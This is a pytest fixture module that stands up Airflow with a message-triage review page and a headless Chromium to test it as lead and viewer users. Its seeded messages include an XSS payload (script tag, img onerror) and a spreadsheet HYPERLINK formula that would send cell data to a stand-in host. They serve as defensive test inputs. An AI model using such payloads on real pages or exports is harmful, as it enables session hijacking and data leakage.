"""A real Airflow with the review page over ten days of messages, and a real Chromium."""

import csv
import datetime as dt
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from nlp.apps.local import stack
from nlp.jobs.govern import train_intents
from nlp.jobs.replay import run_days
from nlp.jobs.train import add_examples
from nlp.records import LabelledExample
from nlp.settings import load
from nlp.text.embed import SentenceEncoder
from sql import embedded
from sql.connect import PostgresStore, migrate, open_store
from tests.fakes import MemorySource
from tests.inbox import FIRST, LAST, N_DAYS, SUBJECTS, about, inbox, raw_row

NEXT = LAST + dt.timedelta(1)
SCRIPT = "I lost my card <script>window.hurt = true</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://x.test/?"&A1) I lost my card'
_NAMES = ("chromium", "chromium-browser", "google-chrome")
_FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update"]


@dataclass(frozen=True)
class Site:
    """The running page and its store."""

    airflow: stack.Airflow
    store: PostgresStore
    inbox: Path
    """The folder that the DAGs read a day's messages from."""

    @property
    def url(self) -> str:
        """The address of the page, without a slash at the end."""
        return f"{self.airflow.url}/triage"

    def run_next_day(self) -> None:
        """Run the eleventh day through the three DAGs with Airflow's scheduler."""
        rng = Random(8)
        names = [*SUBJECTS, "mortgage"]
        rows = [row.fields for name in names for row in about(name, NEXT, 12, rng)]
        with (self.inbox / f"{NEXT}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, ["external_id", "created_at", "text", "channel"])
            writer.writeheader()
            writer.writerows(rows)
        self.airflow.run_day(NEXT)


@pytest.fixture(scope="package")
def site(local_dir: Path, encoder: SentenceEncoder) -> Iterator[Site]:
    """Ten days, triaged by the real jobs with a model that is seldom sure, in Airflow."""
    url = embedded.database_url(local_dir, "browser")
    home = local_dir / "browser"  # an Airflow of its own, besides that of the DAGs' tests
    inbox_folder = home / "inbox"
    inbox_folder.mkdir(parents=True)
    settings = load(
        database_url=url,
        local_dir=home,
        intent_threshold=0.97,
        sources={"inbox": {"kind": "files", "url": f"{inbox_folder}/{{day}}.csv"}},
        _env_file=None,
    )
    migrate(settings)
    rows = inbox()
    rows[LAST] += [raw_row("script", LAST, SCRIPT, "chat"), raw_row("formula", LAST, FORMULA, None)]
    with open_store(settings) as store:
        examples = [
            LabelledExample(frame.format(place), name)
            for name, frames in SUBJECTS.items()
            for frame in frames
            for place in ("in Rome", "on the bus", "on sunday")
        ]
        add_examples(store, examples, origin="test", settings=settings)
        train_intents(store, encoder, settings=settings)
        days = [FIRST + dt.timedelta(n) for n in range(N_DAYS)]
        run_days(store, encoder, days, sources=[MemorySource("inbox", rows)], settings=settings)
        with stack.running(
            settings,
            triage_url=url,
            airflow_url=embedded.database_url(local_dir, "airflow_browser"),
            components=("api-server", "scheduler", "dag-processor"),
            port=0,
        ) as airflow:
            yield Site(airflow, store, inbox_folder)


@pytest.fixture(scope="package")
def chromium() -> Iterator[Browser]:
    """The Chromium of the machine; without one the tests fail and say how to install it."""
    path = next((result for name in _NAMES if (result := shutil.which(name))), None)
    if path is None:
        pytest.fail(
            "No Chromium is installed: `make browser` as root installs it on Debian and Ubuntu "
            f"(apt-get install chromium); elsewhere put one of {', '.join(_NAMES)} on the PATH"
        )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=_FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def lead(site: Site, chromium: Browser) -> Iterator[Page]:
    """A page of a user who may decide, logged in."""
    yield from _page_of(site, chromium, "lead")


@pytest.fixture
def viewer(site: Site, chromium: Browser) -> Iterator[Page]:
    """A page of a user who may only read, logged in."""
    yield from _page_of(site, chromium, "viewer")


def token_of(site: Site, username: str) -> str:
    """A token of Airflow's for a user."""
    from nlp.apps.local.api import Api

    password = site.airflow.home.passwords[username]
    api = Api(site.airflow.url, username=username, password=password)
    login = {"username": username, "password": password}
    return str(api._send("POST", "/auth/token", login)["access_token"])


def _page_of(site: Site, chromium: Browser, username: str) -> Iterator[Page]:
    context: BrowserContext = chromium.new_context()
    context.set_default_timeout(20_000)
    cookie = {"name": "_token", "value": token_of(site, username), "url": site.airflow.url}
    context.add_cookies([cookie])  # type: ignore[list-item]
    yield context.new_page()
    context.close()
